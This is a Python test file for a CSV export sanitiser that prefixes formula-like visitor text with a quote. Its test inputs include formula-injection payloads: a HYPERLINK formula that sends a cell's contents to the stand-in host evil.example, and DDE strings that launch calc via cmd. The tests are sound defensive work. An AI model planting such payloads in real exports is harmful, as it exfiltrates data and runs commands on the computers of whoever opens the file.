"""What a visitor wrote never runs in the spreadsheet of who exports it."""

import csv
import io

import pytest

from hatua.base.csv_cells import csv_line, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\ufeff=1+1",
        "＝1+1",  # noqa: RUF001
        "|calc",
        "%0A=1",
        "-",
        "+254+1",
    ],
)
def test_what_could_be_a_formula_is_marked_as_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["", "Amina", "a=b", "/mri/rental-income", "-12.5", "+254712345678", "+254 712 345678", "1e9", "-3%", "a@b.c"],
)
def test_what_computes_nothing_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_values_of_other_types_are_their_text() -> None:
    assert [safe_cell(v) for v in (None, 0, -5, 2.5, True)] == ["", "0", "-5", "2.5", "True"]


def test_a_line_reads_back_whole_whatever_is_in_it() -> None:
    cells = ['say "hi"', "a,b", "two\nlines", "=1", None, 7]
    line = csv_line(cells)
    assert line.endswith("\r\n")
    assert next(csv.reader(io.StringIO(line))) == ['say "hi"', "a,b", "two\nlines", "'=1", "", "7"]
